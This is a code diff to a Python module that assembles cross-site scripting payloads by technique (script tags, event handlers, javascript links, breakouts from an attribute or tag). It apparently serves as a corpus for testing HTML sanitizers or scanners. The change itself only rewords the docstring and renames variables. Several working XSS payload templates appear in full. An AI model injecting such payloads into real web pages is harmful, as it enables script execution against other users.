@@ -1,6 +1,7 @@
-"""Texts that would do something if a page took them for more than text, by technique.
+"""Cross-site scripting payloads, by technique.
 
-Whatever works sets ``pwned``, opens a dialog, asks for an address that nobody has, or leaves an element that is marked.
+A payload that works sets ``pwned``, opens a dialog, requests a URL of a host that does not exist, or leaves an element
+with a mark.
 """
 
 from __future__ import annotations
@@ -36,7 +37,7 @@ _AROUND = """
 
 
 def _split(text: str) -> list[str]:
-    return [each.strip() for each in text.split("|") if each.strip()]
+    return [part.strip() for part in text.split("|") if part.strip()]
 
 
 SCRIPTS = [
@@ -59,10 +60,10 @@ SCRIPTS = [
     f"<script {MARK} type=speculationrules>{{}}</script>",
     f"<noscript><p title='</noscript><img {MARK} src=x onerror={ACT}>'>",
 ]
-HANDLERS = [f"<{each.replace(' ', f' {MARK} ', 1)}={ACT}>" for each in _split(_HANDLERS)]
-LINKS = [f"<a {MARK} href='{each.replace('ACT', ACT)}'>x</a>" for each in _split(_LINKS)]
-BARE_LINKS = [each.replace("ACT", ACT) for each in _split(_LINKS)]
-BREAKING_OUT = [f"{each}<img {MARK} src=x onerror={ACT}>" for each in _split(_AROUND)]
+HANDLERS = [f"<{text.replace(' ', f' {MARK} ', 1)}={ACT}>" for text in _split(_HANDLERS)]
+LINKS = [f"<a {MARK} href='{text.replace('ACT', ACT)}'>x</a>" for text in _split(_LINKS)]
+BARE_LINKS = [text.replace("ACT", ACT) for text in _split(_LINKS)]
+BREAKING_OUT = [f"{text}<img {MARK} src=x onerror={ACT}>" for text in _split(_AROUND)]
 ATTRIBUTES = [
     f"{quote} {MARK} {handler}={quote}{ACT}{quote} x={quote}"
     for quote in ('"', "'", "`")
